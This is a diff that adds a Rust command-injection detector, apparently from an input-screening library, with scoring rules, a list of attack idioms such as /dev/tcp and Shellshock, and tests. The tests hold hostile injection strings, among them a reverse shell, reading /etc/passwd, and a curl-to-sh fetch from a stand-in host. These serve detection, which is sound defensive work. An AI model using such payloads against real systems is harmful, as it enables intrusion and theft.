@@ -1,0 +1,98 @@
+//! Command injection: a command where a shell would start one.
+//!
+//! Sees commands behind separators, substitutions and line ends, blanks written
+//! as `${IFS}`, reverse shells, functions smuggled through the environment
+//! (CVE-2014-6271). A shell script posted as a document is content; the same
+//! line as the whole of a short value is not.
+
+use super::evidence::{Evidence, Strongest, Texture};
+use crate::text::cursor::{find, find_ci};
+use crate::text::shell::{Argument, Command, Invocation, Mark, each_invocation};
+
+/// The strongest evidence in `text`.
+pub(crate) fn find_in(text: &[u8], texture: Texture) -> Option<Evidence> {
+    let mut best = Strongest::default();
+    each_invocation(text, &mut |found| {
+        if let Some((code, score)) = judge(&found, texture) {
+            best.add(Evidence::new(code, score, found.start, found.end));
+        }
+    });
+    idioms(text, texture, &mut best);
+    best.0
+}
+
+fn judge(found: &Invocation, texture: Texture) -> Option<(&'static str, u16)> {
+    let hidden = if found.disguised { 800 } else { 0 };
+    let (code, score) = match (found.mark, found.command, found.argument) {
+        (Mark::Separator, Command::Plain, Argument::Technical) => ("shield.rce.separator", 8700_u16),
+        (Mark::Separator, Command::Plain, Argument::None) => ("shield.rce.separator", 7800),
+        (Mark::Separator, Command::Plain, Argument::Word) => ("shield.rce.separator", 4000),
+        (Mark::Separator, Command::Common, Argument::Technical) => ("shield.rce.separator", 7000),
+        (Mark::Separator, Command::Common, Argument::None) => ("shield.rce.separator", 5500),
+        (Mark::Substitution, Command::Plain, Argument::Technical | Argument::None) => ("shield.rce.substitution", 8500),
+        (Mark::Substitution, Command::Plain, Argument::Word) => ("shield.rce.substitution", 5500),
+        (Mark::Substitution, Command::Common, Argument::Technical) => ("shield.rce.substitution", 7500),
+        (Mark::Substitution, Command::Common, Argument::None) => ("shield.rce.substitution", 4500),
+        (Mark::Line, Command::Plain, Argument::Technical | Argument::None) => ("shield.rce.line", 7000),
+        (Mark::Line, Command::Common, Argument::Technical) => ("shield.rce.line", 5200),
+        (Mark::Start, Command::Plain, Argument::Technical) => ("shield.rce.command", 5500),
+        (Mark::Start, Command::Common, Argument::Technical) if found.disguised => ("shield.rce.command", 5500),
+        _ => return None,
+    };
+    let score = score.saturating_add(hidden).min(9500);
+    Some((code, texture.weigh(score, 3500, 2000)))
+}
+
+/// Things that are written for no other purpose.
+fn idioms(text: &[u8], texture: Texture, best: &mut Strongest) {
+    let fixed: [(&[u8], &'static str, u16, u16); 13] = [
+        (b"() {", "shield.rce.shellshock", 9500, 3000),
+        (b"(){:;}", "shield.rce.shellshock", 9800, 5000),
+        (b"${ifs}", "shield.rce.substitution", 9300, 4000),
+        (b"$ifs", "shield.rce.substitution", 8500, 3500),
+        (b"/dev/tcp/", "shield.rce.reverse", 9500, 4500),
+        (b"/bin/sh", "shield.rce.command", 8000, 2500),
+        (b"/bin/bash", "shield.rce.command", 8000, 2500),
+        (b"/bin/cat ", "shield.rce.command", 8500, 2500),
+        (b"/bin/ls", "shield.rce.command", 7500, 2500),
+        (b"cmd.exe", "shield.rce.command", 8000, 2500),
+        (b"cmd /c", "shield.rce.command", 8000, 2500),
+        (b"powershell -", "shield.rce.command", 8500, 2500),
+        (b"powershell.exe", "shield.rce.command", 8000, 2500),
+    ];
+    for (needle, code, score, in_text) in fixed {
+        if let Some(at) = find_ci(text, needle) {
+            // `() {` alone is an empty function; with a command behind `;` it is not
+            let shellshock = needle == b"() {";
+            let behind = text.get(at..).unwrap_or_default();
+            if shellshock && !(at < 4 && find(behind, b"}").is_some() && find(behind, b";").is_some()) {
+                continue;
+            }
+            best.add(Evidence::new(code, texture.weigh(score, in_text, in_text.min(3000)), at, at.saturating_add(needle.len())));
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn score(text: &str) -> u16 {
+        let texture = super::super::gate::scan(text.as_bytes()).texture;
+        find_in(text.as_bytes(), texture).map_or(0, |e| e.score)
+    }
+
+    #[test]
+    fn commands_that_are_run() {
+        for text in ["127.0.0.1; cat /etc/passwd", "x|id", "$(whoami)", "`uname -a`", "a&&curl http://e.example/x|sh", "() { :;}; /bin/ls", "x\nwhoami", ";cat${IFS}x", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"] {
+            assert!(score(text) >= 5000, "{text}");
+        }
+    }
+
+    #[test]
+    fn prose_and_queries() {
+        for text in ["Tom & Jerry; cats and dogs", "a | b | c", "Find out more; sort by date; then echo it", "/x?id=1&type=2&sort=name", "$(document).ready(function() { x(); })"] {
+            assert!(score(text) < 5000, "{text}");
+        }
+    }
+}
